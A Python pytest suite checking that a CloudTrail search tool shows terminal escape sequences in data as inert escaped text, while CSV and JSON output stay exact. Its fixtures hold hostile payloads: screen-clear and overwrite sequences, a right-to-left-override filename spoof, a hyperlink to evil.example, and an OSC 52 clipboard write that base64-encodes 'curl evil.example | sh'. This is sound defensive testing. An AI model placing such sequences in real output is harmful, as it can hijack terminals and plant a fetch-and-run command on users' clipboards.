"""Output is inert: data that holds terminal escape sequences never reaches the terminal as such.

A CloudTrail ``userAgent`` (and any other field, or field name) is text the API caller chose. In
a table and everywhere the REPL prints data it shows escaped (``\\x1b``, ``\\u202e``); rich
markup in data stays text; ``--format csv`` and ``json`` give the exact value, byte for byte.
Expected escapes are worked out by hand from the code points (ESC is 0x1b, BEL 0x07, CSI 0x9b,
RIGHT-TO-LEFT OVERRIDE U+202E).
"""
from __future__ import annotations

import csv
import io
import json
import re
import unicodedata

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from prompt_toolkit.history import InMemoryHistory
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput
from rich.console import Console

from spl import render
from spl.errors import SearchError, Span
from spl.render import error_text, inert
from spl.repl import Repl, make_console, prompt_loop

CLEAR = "\x1b[2J\x1b[H"                                      # erase the screen, cursor home
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"  # a hyperlink
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"      # set the clipboard
HOSTILE = {
    "clear": CLEAR + "all clear",
    "osc8": OSC8,
    "osc52": OSC52,
    "bel": "ding\x07",
    "cr": "aws-cli/2.15\rEVIL-OVERWRITE",
    "csi8": "x\x9b2Jy",                                       # the 8-bit (C1) CSI
    "rlo": "invoice\u202efdp.exe",                            # shows as invoiceexe.pdf
    "markup": "[bold red]x[/]",
    "emoji": "a:smile:b",
}
ESCAPED = {
    "clear": r"\x1b[2J\x1b[Hall clear",
    "osc8": "\\x1b]8;;https://evil.example/\\x1b\\click me\\x1b]8;;\\x1b\\",
    "osc52": r"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "bel": r"ding\x07",
    "cr": r"aws-cli/2.15\rEVIL-OVERWRITE",
    "csi8": r"x\x9b2Jy",
    "rlo": r"invoice\u202efdp.exe",
    "markup": "[bold red]x[/]",
    "emoji": "a:smile:b",
}
UA_SEARCH = "eventName=ListUsers | sort eventID | table userAgent"
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colour codes


def assert_inert(text: str) -> None:
    """No character that acts on a terminal, once rich's own colour codes are taken out."""
    bare = SGR.sub("", text)
    active = [ch for ch in bare if ch != "\n" and unicodedata.category(ch) in
              ("Cc", "Cf", "Cs", "Zl", "Zp") and ch not in "\u200c\u200d"]
    assert active == []


# ---------------------------------------------------------------- the escaping function


@pytest.mark.parametrize("raw, shown", [
    ("\x1b[2J", r"\x1b[2J"),
    ("a\x00b", r"a\x00b"),
    ("bell\x07", r"bell\x07"),
    ("tab\there", r"tab\there"),
    ("two\nlines", r"two\nlines"),
    ("over\rwrite", r"over\rwrite"),
    ("del\x7f", r"del\x7f"),
    ("c1\x85\x9b\x9d", r"c1\x85\x9b\x9d"),
    ("rlo\u202e", r"rlo\u202e"),
    ("isolates\u2066\u2067\u2068\u2069", r"isolates\u2066\u2067\u2068\u2069"),
    ("lrm\u200e\u200f", r"lrm\u200e\u200f"),
    ("zero\u200bwidth\ufeff", r"zero\u200bwidth\ufeff"),
    ("line\u2028para\u2029", r"line\u2028para\u2029"),
    ("tag\U000e0041", r"tag\U000e0041"),
    ("lone\udcff", r"lone\udcff"),
])
def test_active_characters_show_as_their_escape(raw, shown):
    assert inert(raw) == shown


@pytest.mark.parametrize("text", [
    "aws-cli/2.15.30 Python/3.11.8", "C:\\Windows\\System32", "café ÿ", "東京", "a\u00a0b",
    "👩\u200d💻", "\u0645\u200c\u0627", "[bold]x[/bold]", "", "a literal backslash: \\x1b",
])
def test_text_that_shows_as_itself_is_unchanged(text):
    assert inert(text) == text


@given(st.text())
def test_inert_output_holds_no_active_character_and_keeps_the_rest(text):
    shown = inert(text)
    assert_inert(shown)
    if text.isprintable():
        assert shown == text


def test_error_text_keeps_the_caret_under_its_text():
    search = '| eval x="\x1b[2J" | nosuch'
    err = SearchError("command 'nosuch' is not supported", span=Span(18, 24), text=search)
    assert error_text(err).splitlines() == [
        "search error: line 1, column 19: command 'nosuch' is not supported",
        r'| eval x="\x1b[2J" | nosuch',
        " " * 21 + "^" * 6]  # 18 characters before, ESC shown as 4
    assert err.render().splitlines()[1] == search  # the exact text for the Python API


# ---------------------------------------------------------------- table output


def hostile_table() -> pd.DataFrame:
    return pd.DataFrame({"case": list(HOSTILE), "userAgent": list(HOSTILE.values())})


def show(table, fmt, width=200, color=True) -> str:
    buf = io.StringIO()
    console = Console(file=buf, width=width, force_terminal=True,
                      color_system="standard" if color else None)
    render.show(table, fmt, console)
    return buf.getvalue()


def table_rows(text: str) -> list[list[str]]:
    return [[c.strip() for c in line.split("│")[1:-1]] for line in text.splitlines()
            if line.startswith("│")]


def test_table_shows_escapes_and_sends_no_control_character():
    text = show(hostile_table(), "table")
    assert_inert(text)
    plain = show(hostile_table(), "table", color=False)
    assert "\x1b" not in plain
    assert table_rows(plain) == [[k, ESCAPED[k]] for k in HOSTILE]


def test_table_does_not_read_markup_in_values_or_field_names():
    table = pd.DataFrame({"[red]f[/red]": ["[link=https://evil.example]x[/link]"]})
    plain = show(table, "table", color=False)
    assert table_rows(plain) == [["[link=https://evil.example]x[/link]"]]
    assert "┃ [red]f[/red]" in plain
    assert "evil.example" not in show(table, "table").replace(
        "[link=https://evil.example]x[/link]", "")  # no OSC 8 link was made of it


def test_field_names_and_multivalue_cells_are_inert():
    table = pd.DataFrame({"evil\x1b[31mname": [["one\x1b[2J", "two\nthree"]]})
    text = show(table, "table", color=False)
    assert_inert(text)
    assert r"evil\x1b[31mname" in text
    # the values of a multivalue cell are its lines; a newline inside a value is \n
    assert table_rows(text) == [[r"one\x1b[2J"], [r"two\nthree"]]


def test_cards_for_wide_results_are_inert():
    table = pd.DataFrame({f"f{i}": ["x" * 30] for i in range(6)} |
                         {"ua\x1b[5m": [CLEAR + "x" * 30]})
    text = show(table, "table", width=60, color=False)
    assert "result 1" in text  # too wide for 60 columns: one card per result
    assert_inert(text)
    assert r"ua\x1b[5m" in text and r"\x1b[2J\x1b[Hxxxx" in text


# ---------------------------------------------------------------- csv and json stay exact


def test_csv_is_the_exact_value():
    text = show(hostile_table(), "csv")
    assert list(csv.reader(io.StringIO(text, newline=""))) == (
        [["case", "userAgent"]] + [[k, v] for k, v in HOSTILE.items()])


def test_json_is_the_exact_value():
    text = show(hostile_table(), "json")
    assert json.loads(text) == [{"case": k, "userAgent": v} for k, v in HOSTILE.items()]
    assert "\x1b" not in text  # JSON writes ESC as \u001b: the exact value, inert by itself


def write_events(path, user_agents: list[str], extra: dict | None = None) -> str:
    with open(path, "w", encoding="utf-8") as f:
        for i, ua in enumerate(user_agents):
            rec = {"eventVersion": "1.09", "eventTime": f"2026-03-09T09:12:0{i}Z",
                   "eventSource": "iam.amazonaws.com", "eventName": "ListUsers",
                   "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.9",
                   "userIdentity": {"type": "IAMUser", "userName": "mallory"},
                   "userAgent": ua, "eventID": f"e{i}", **(extra or {})}
            f.write(json.dumps(rec) + "\n")
    return str(path)


def test_spl_run_table_is_inert_and_csv_json_exact(tmp_path, capsys):
    from spl.cli import main

    data = write_events(tmp_path / "ct.json", [HOSTILE["clear"], HOSTILE["cr"]])
    search = "`cloudtrail` | sort eventID | table userAgent"
    assert main(["run", search, "--data", data, "--format", "table"]) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    assert table_rows(out) == [[ESCAPED["clear"]], [ESCAPED["cr"]]]
    assert main(["run", search, "--data", data, "--format", "csv"]) == 0
    assert list(csv.reader(io.StringIO(capsys.readouterr().out, newline=""))) == [
        ["userAgent"], [HOSTILE["clear"]], [HOSTILE["cr"]]]
    assert main(["run", search, "--data", data, "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == [
        {"userAgent": HOSTILE["clear"]}, {"userAgent": HOSTILE["cr"]}]


def test_cli_errors_quoting_the_search_are_inert(tmp_path, capsys):
    from spl.cli import main

    data = write_events(tmp_path / "ct.json", ["x"])
    assert main(["run", '| makeresults | eval x="\x1b]52;c;AAAA\x07" | nosuch',
                 "--data", data]) == 1
    err = capsys.readouterr().err
    assert_inert(err)
    assert r'| makeresults | eval x="\x1b]52;c;AAAA\x07" | nosuch' in err.splitlines()


# ---------------------------------------------------------------- the REPL


def make_repl() -> tuple[Repl, io.StringIO]:
    buffer = io.StringIO()
    console = make_console(file=buffer, width=200, force_terminal=True, color_system="standard")
    return Repl(console=console), buffer


@pytest.fixture
def hostile_repl(tmp_path):
    data = write_events(tmp_path / "ct.json", [HOSTILE["clear"], HOSTILE["osc52"], HOSTILE["rlo"]],
                        extra={"evil\x1b[8mkey": "hidden\x1b[8m"})
    repl, buffer = make_repl()
    repl.load([data])
    return repl, buffer


def test_repl_results_fields_and_events_are_inert(hostile_repl):
    repl, buffer = hostile_repl
    for text in (UA_SEARCH, ".fields userAgent", ".fields evil", "eventName=ListUsers",
                 ".raw on", "eventName=ListUsers", ".format csv", UA_SEARCH, ".format json",
                 UA_SEARCH, ".data"):
        repl.handle(text)
    out = buffer.getvalue()
    assert_inert(out)
    plain = SGR.sub("", out)
    for escaped in (ESCAPED["clear"], ESCAPED["osc52"], ESCAPED["rlo"], r"evil\x1b[8mkey",
                    r"hidden\x1b[8m"):
        assert escaped in plain
    assert r'"userAgent": "\u001b[2J\u001b[Hall clear"' in plain  # JSON's own escape


def test_repl_errors_quoting_data_or_search_are_inert(hostile_repl):
    repl, buffer = hostile_repl
    repl.handle('| makeresults | eval x="\x1b[2J" | nosuch')
    repl.handle(".nosuch\x1b[2J")
    repl.handle(".save /nonexistent-dir\x1b[2J/x.csv")
    out = buffer.getvalue()
    assert_inert(out)
    plain = SGR.sub("", out)
    assert r'| makeresults | eval x="\x1b[2J" | nosuch' in plain
    assert r"unknown command .nosuch\x1b[2j" in plain  # meta names are read lower-cased


def test_repl_prompt_loop_with_hostile_input_prints_no_control_character(hostile_repl):
    repl, buffer = hostile_repl
    with create_pipe_input() as pipe:
        pipe.send_text(UA_SEARCH + "\r" + "| eval y=\"\x1b[2J\" | nosuch\r"
                       + "\x04")
        prompt_loop(repl, input=pipe, output=DummyOutput(), history=InMemoryHistory())
    out = buffer.getvalue()
    assert_inert(out)
    assert ESCAPED["clear"] in SGR.sub("", out)


def test_repl_save_writes_the_exact_values(hostile_repl, tmp_path):
    repl, _ = hostile_repl
    repl.handle(UA_SEARCH)
    repl.handle(f".save {tmp_path / 'out.csv'}")
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        assert list(csv.reader(f)) == [["userAgent"], [HOSTILE["clear"]], [HOSTILE["osc52"]],
                                       [HOSTILE["rlo"]]]


def test_repl_progress_bar_shows_a_hostile_file_name_inert(tmp_path, monkeypatch):
    monkeypatch.setattr("spl.repl.PROGRESS_BYTES", 0)
    data = write_events(tmp_path / "ct\x1b[2J[bold]x.json", ["a"])
    repl, buffer = make_repl()
    repl.load([data, data])
    plain = SGR.sub("", buffer.getvalue())
    assert r"loading ct\x1b[2J[bold]x.json" in plain  # the bar's description: no markup either
    assert "\x1b[2J" not in buffer.getvalue()
